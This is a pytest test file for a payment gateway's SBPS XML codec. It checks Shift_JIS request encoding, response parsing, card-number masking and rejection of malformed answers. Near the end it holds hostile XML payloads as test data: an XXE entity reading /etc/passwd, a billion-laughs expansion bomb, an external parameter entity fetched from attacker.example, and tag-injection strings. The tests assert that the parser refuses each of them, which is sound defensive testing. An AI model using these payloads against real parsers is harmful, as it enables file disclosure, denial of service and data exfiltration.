"""SBPS wire codec (app/gateway/sbps/codec.py): request documents out, answers in."""

from __future__ import annotations

import base64
import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.gateway.sbps.codec import (
    MAX_RESPONSE_BYTES,
    SbpsCodecError,
    encode_request,
    parse_response,
)
from app.gateway.sbps.elements import Block, Leaf
from app.gateway.text import CodecError

_DECL = b"<?xml version='1.0' encoding='Shift_JIS' ?>\n"

# The shape of the Ruby gem's recorded sandbox answer (authorization-with-token.yml), values
# made up: indentation, a blank line inside a block, and `<res_err_code/>`.
AUTH_OK = (
    _DECL
    + b"""  <sps-api-response id="ST01-00131-101">
    <res_result>OK</res_result>
    <res_sps_transaction_id>B30132002ST010013110100361052570</res_sps_transaction_id>
    <res_tracking_id>00000612345678</res_tracking_id>
    <res_pay_method_info>
      <cc_company_code>01</cc_company_code>
      <cardbrand_code>V</cardbrand_code>
      <recognized_no>123456</recognized_no>

    </res_pay_method_info>
    <res_sps_info>
      <res_sps_cust_no>000011112222</res_sps_cust_no>
      <res_sps_payment_no>001</res_sps_payment_no>
    </res_sps_info>
    <res_process_date>20261204183000</res_process_date>
    <res_err_code/>
    <res_date>20261204183001</res_date>
  </sps-api-response>
"""
)
NG = (
    _DECL
    + b"""  <sps-api-response>
    <res_result>NG</res_result>
    <res_err_code>10105202</res_err_code>
    <res_date>20261204183001</res_date>
  </sps-api-response>
"""
)
LOOKUP_OK = (
    _DECL
    + b"""<sps-api-response id="MG01-00101-101">
<res_result>OK</res_result>
<res_sps_transaction_id>B30132002MG010010110100361052570</res_sps_transaction_id>
<res_tracking_id>00000612345678</res_tracking_id>
<res_status>0</res_status>
<res_pay_method_info>
<res_pay_method_info_detail>
<cc_number>************4242</cc_number>
<cc_expiration>203012</cc_expiration>
<dealings_type>10</dealings_type>
<divide_times/>
<bonus_details_times/>
</res_pay_method_info_detail>
<cc_company_code>01</cc_company_code>
<cardbrand_code>V</cardbrand_code>
<recognized_no>123456</recognized_no>
<commit_status>1</commit_status>
<payment_status>1</payment_status>
</res_pay_method_info>
<res_process_date>20261204183000</res_process_date>
<res_err_code/>
<res_date>20261204183001</res_date>
</sps-api-response>
"""
)
CARD_SAVE_OK = (
    _DECL
    + b"""<sps-api-response id="MG02-00131-101">
<res_result>OK</res_result>
<res_sps_transaction_id>B30132002MG020013110100178708658</res_sps_transaction_id>
<res_pay_method_info>
<cardbrand_code>J</cardbrand_code>
<res_payinfo_key>payinfo-key-1</res_payinfo_key>
</res_pay_method_info>
<res_err_code/>
<res_date>20261204183001</res_date>
</sps-api-response>
"""
)


# --- requests ----------------------------------------------------------------------------


def test_request_document_is_shift_jis_with_the_declaration_and_id() -> None:
    document = encode_request(
        "ST01-00131-101",
        [
            Leaf("merchant_id", "30132"),
            Leaf("item_name", "テスト商品"),
            Block("dtls", (Block("dtl", (Leaf("dtl_rowno", "1"),)),)),
            Block("pay_method_info", (Leaf("dealings_type", "10"),)),
        ],
    )
    name = base64.b64encode("テスト商品".encode("cp932")).decode()
    assert document == (
        '<?xml version="1.0" encoding="Shift_JIS"?><sps-api-request id="ST01-00131-101">'
        f"<merchant_id>30132</merchant_id><item_name>{name}</item_name>"
        "<dtls><dtl><dtl_rowno>1</dtl_rowno></dtl></dtls>"
        "<pay_method_info><dealings_type>10</dealings_type></pay_method_info>"
        "</sps-api-request>"
    ).encode("cp932")


@pytest.mark.parametrize("request_id", ["", "ST01-00131", 'ST01-00131-101"><x', "st01-00131-101"])
def test_request_id_is_checked(request_id: str) -> None:
    with pytest.raises(ValueError):
        encode_request(request_id, [])


@pytest.mark.parametrize("name", ["a b", "x><y", "", "Amount"])
def test_element_names_are_checked(name: str) -> None:
    with pytest.raises(ValueError):
        Leaf(name, "1")


# --- answers -----------------------------------------------------------------------------


def test_authorization_answer() -> None:
    answer = parse_response(AUTH_OK, expected_id="ST01-00131-101")
    assert answer.ok
    assert answer.request_id == "ST01-00131-101"
    assert answer.err_code is None  # <res_err_code/>
    assert answer.sps_transaction_id == "B30132002ST010013110100361052570"
    assert answer.tracking_id == "00000612345678"
    assert answer.process_date == "20261204183000"
    assert answer.date == "20261204183001"
    assert answer.sps_cust_no == "000011112222"
    assert answer.sps_payment_no == "001"
    info = answer.pay_method_info
    assert info is not None
    assert (info.cc_company_code, info.cardbrand_code, info.recognized_no) == ("01", "V", "123456")
    assert answer.other == {}


def test_ng_answer_has_no_id() -> None:
    answer = parse_response(NG, expected_id="ST01-00131-101")
    assert not answer.ok
    assert answer.result == "NG"
    assert answer.request_id is None
    assert answer.err_code == "10105202"
    assert answer.pay_method_info is None


def test_lookup_answer() -> None:
    answer = parse_response(LOOKUP_OK, expected_id="MG01-00101-101")
    assert answer.status == "0"
    info = answer.pay_method_info
    assert info is not None
    assert info.cc_number == "************4242"
    assert info.cc_expiration == "203012"
    assert info.dealings_type == "10"
    assert info.divide_times is None
    assert info.bonus_details_times is None
    assert (info.commit_status, info.payment_status) == ("1", "1")
    assert info.recognized_no == "123456"


def test_a_clear_card_number_in_an_answer_is_masked() -> None:
    raw = LOOKUP_OK.replace(b"************4242", b"4242424242424242")
    info = parse_response(raw).pay_method_info
    assert info is not None
    assert info.cc_number == "************4242"
    assert b"4242424242424242" not in repr(parse_response(raw)).encode()


def test_card_save_answer() -> None:
    answer = parse_response(CARD_SAVE_OK, expected_id="MG02-00131-101")
    info = answer.pay_method_info
    assert info is not None
    assert (info.payinfo_key, info.cardbrand_code) == ("payinfo-key-1", "J")
    assert "payinfo-key-1" not in repr(answer)


def test_a_field_repeated_with_the_same_value_is_read() -> None:
    raw = LOOKUP_OK.replace(
        b"<commit_status>1", b"<dealings_type>10</dealings_type><commit_status>1"
    )
    info = parse_response(raw).pay_method_info
    assert info is not None and info.dealings_type == "10"
    with pytest.raises(SbpsCodecError):
        parse_response(
            raw.replace(
                b"<dealings_type>10</dealings_type><commit",
                b"<dealings_type>61</dealings_type><commit",
            )
        )


def test_unknown_leaves_are_kept_by_path() -> None:
    raw = NG.replace(b"<res_date>", b"<res_x><res_y>v</res_y></res_x><res_date>")
    assert parse_response(raw).other == {"res_x/res_y": "v"}


def test_shift_jis_text_in_an_answer_is_read() -> None:
    raw = NG.replace(b"</res_date>", "</res_date><res_note>テスト</res_note>".encode("cp932"))
    assert parse_response(raw).other == {"res_note": "テスト"}


def test_an_answer_to_another_request_is_refused() -> None:
    with pytest.raises(SbpsCodecError):
        parse_response(AUTH_OK, expected_id="ST02-00101-101")


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"   ",
        b"OK",
        b"<html><body>502 Bad Gateway</body></html>",
        b"<sps-api-response><res_result>OK</res_result>",  # cut short
        b"<sps-api-response><res_date>1</res_date></sps-api-response>",  # no res_result
        b"<sps-api-response><res_result>MAYBE</res_result></sps-api-response>",
        b"<sps-api-response><res_result>OK</res_result><res_result>NG</res_result>"
        b"</sps-api-response>",
        b"<sps-api-response>text<res_result>OK</res_result></sps-api-response>",  # mixed
        b"<sps-api-response><res_result>OK</res_result></sps-api-response><x/>",
        b'<?xml version="1.0" encoding="EBCDIC-XX"?><sps-api-response/>',
        _DECL + b"<sps-api-response><res_result>\x82</res_result></sps-api-response>",
        b"<sps-api-response>" + b"<a>" * 20 + b"</a>" * 20 + b"</sps-api-response>",
        b"<sps-api-response><res_result>OK</res_result>"
        + b" " * MAX_RESPONSE_BYTES
        + b"</sps-api-response>",
    ],
)
def test_garbage_is_refused(raw: bytes) -> None:
    with pytest.raises(SbpsCodecError):
        parse_response(raw)


def test_refusal_is_a_codec_error() -> None:
    assert issubclass(SbpsCodecError, CodecError)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<sps-api-response><res_result>OK</res_result><res_err_code>&x;</res_err_code></sps-api-response>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<sps-api-response><res_result>OK</res_result><res_err_code>&d;</res_err_code></sps-api-response>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
<sps-api-response><res_result>OK</res_result></sps-api-response>"""
UNDECLARED = b"<sps-api-response><res_result>&x;</res_result></sps-api-response>"


@pytest.mark.parametrize("raw", [XXE, LAUGHS, PARAMETER_ENTITY, UNDECLARED])
def test_dtds_and_entities_are_refused(raw: bytes) -> None:
    with pytest.raises(SbpsCodecError):
        parse_response(raw)


@given(st.binary(max_size=400))
def test_arbitrary_bytes_parse_or_raise_codec_error(raw: bytes) -> None:
    with contextlib.suppress(SbpsCodecError):
        parse_response(raw)


@given(
    st.sampled_from(["OK", "NG"]),
    st.from_regex(r"[0-9A-Z]{8}", fullmatch=True),
    st.from_regex(r"[0-9]{14}", fullmatch=True),
)
def test_answers_round_trip(result: str, code: str, date: str) -> None:
    raw = (
        f"<?xml version='1.0' encoding='Shift_JIS' ?><sps-api-response><res_result>{result}"
        f"</res_result><res_err_code>{code}</res_err_code><res_date>{date}</res_date>"
        "</sps-api-response>"
    ).encode("cp932")
    answer = parse_response(raw)
    assert (answer.result, answer.err_code, answer.date) == (result, code, date)
